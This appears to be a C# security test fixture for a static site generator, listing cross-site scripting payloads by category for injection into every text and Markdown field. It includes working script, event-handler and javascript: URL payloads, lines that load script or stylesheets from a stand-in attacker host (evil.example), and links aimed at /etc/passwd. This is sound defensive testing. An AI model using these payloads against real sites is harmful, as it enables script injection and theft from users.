namespace SiteGen.Tests.Security;

/// <summary>
/// Cross-site scripting vectors, by category, written for SiteGen: each is placed in every text and Markdown
/// field of a site by <see cref="HostileContentTests"/>. Aimed at HTML text and attributes, Markdown links,
/// inline SVG charts, the search index script, the Atom feed and the templates.
/// </summary>
internal static class XssVectors
{
    public static readonly IReadOnlyDictionary<string, string[]> ByCategory = new Dictionary<string, string[]>(StringComparer.Ordinal)
    {
        ["script-and-style"] =
        [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<script>alert(1)//",
            "</title><script>alert(1)</script>",
            "</textarea></noscript></style><script>alert(1)</script>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<<script>alert(1);//<</script>",
            "<style>body{display:none}</style>",
            "<style>@import'//evil.example/x.css';</style>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<base href=\"//evil.example/\">",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<object data=\"javascript:alert(1)\"></object>",
            "<embed src=\"data:text/html,<script>alert(1)</script>\">",
            "<form action=\"//evil.example\"><button>登录</button></form>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><script>alert(1)</script></template>",
        ],
        ["event-handlers"] =
        [
            "<img src=x onerror=alert(1)>",
            "<img/src=x/onerror=alert(1)>",
            "<IMG SRC=x oNeRrOr=alert&#40;1&#41;>",
            "<body onload=alert(1)>",
            "<div onmouseover=\"alert(1)\">悬停</div>",
            "<svg onload=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=\"alert(1)\"></video>",
            "<a href=\"#\" onclick=\"alert(1)\">点击</a>",
            "<marquee onstart=alert(1)>",
        ],
        ["dangerous-urls"] =
        [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            " \tjavascript:alert(1)",
            "java\tscript:alert(1)",
            "jav\u0000ascript:alert(1)",
            "&#106;avascript:alert(1)",
            "&#x6A;&#x61;vascript&colon;alert(1)",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"java&#x09;script:alert(1)\">x</a>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "vbscript:msgbox(1)",
            "<a href=\"VBScript:msgbox(1)\">x</a>",
        ],
        ["svg-and-mathml"] =
        [
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
            "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
            "</desc></title></text></svg><script>alert(1)</script>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<math href=\"javascript:alert(1)\">x</math>",
            "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
        ],
        ["markdown-links-and-images"] =
        [
            "[点击](javascript:alert(1))",
            "[点击](JAVASCRIPT:alert(1))",
            "[点击](  javascript:alert(1)  )",
            "[点击](<javascript:alert(1)>)",
            "[点击](&#106;avascript:alert(1))",
            "[点击](javascript&colon;alert(1))",
            "[点击](java\tscript:alert(1))",
            "[点击](data:text/html;base64,PHNjcmlwdD4=)",
            "[点击](vbscript:msgbox(1))",
            "[点击](file:///etc/passwd)",
            "[点击](../../../../etc/passwd)",
            "[点击](/etc/passwd)",
            "<javascript:alert(1)>",
            "![图](javascript:alert(1))",
            "![图](https://evil.example/track.png)",
            "[点击][r]\n\n[r]: javascript:alert(1)",
            "[点击](https://www.example.gov.cn/ \"标题\\\" onmouseover=\\\"alert(1)\")",
            "<https://www.example.gov.cn/\"onmouseover=\"alert(1)>",
            "[点击](https://www.example.gov.cn/?q=<script>alert(1)</script>)",
            "[<img src=x onerror=alert(1)>](https://www.example.gov.cn/)",
            "[x](https://www.example.gov.cn/){onclick=alert(1)}",
        ],
        ["attribute-injection"] =
        [
            "\" onmouseover=\"alert(1)",
            "' onmouseover='alert(1)",
            "\"><script>alert(1)</script>",
            "'><img src=x onerror=alert(1)>",
            "\" autofocus onfocus=\"alert(1)\" x=\"",
            "` onmouseover=alert(1) `",
            "&quot; onmouseover=&quot;alert(1)",
            "\"/><base href=//evil.example/>",
            "--><script>alert(1)</script><!--",
            "]]><script>alert(1)</script><![CDATA[",
            "\"};alert(1);//",
            "</script><script>alert(1)</script>",
            "\u2028alert(1)\u2029",
        ],
        ["template-syntax"] =
        [
            "{{ 7*7 }}",
            "{{ site.title }}",
            "{{~ include \"layout\" ~}}",
            "{{ \"<script>alert(1)</script>\" }}",
            "{{ func x; ret \"<b>\"; end; x }}",
            "{% raw %}{{ 7*7 }}{% endraw %}",
            "${7*7}",
            "<%= 7*7 %>",
            "#{7*7}",
        ],
        ["encoding-tricks"] =
        [
            "＜script＞alert(1)＜/script＞",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "<!--<script>alert(1)//-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
            "\u202Egnp.exe",
            "%3Cscript%3Ealert(1)%3C/script%3E",
        ],
    };

    public static IEnumerable<string> All => ByCategory.Values.SelectMany(v => v);
}
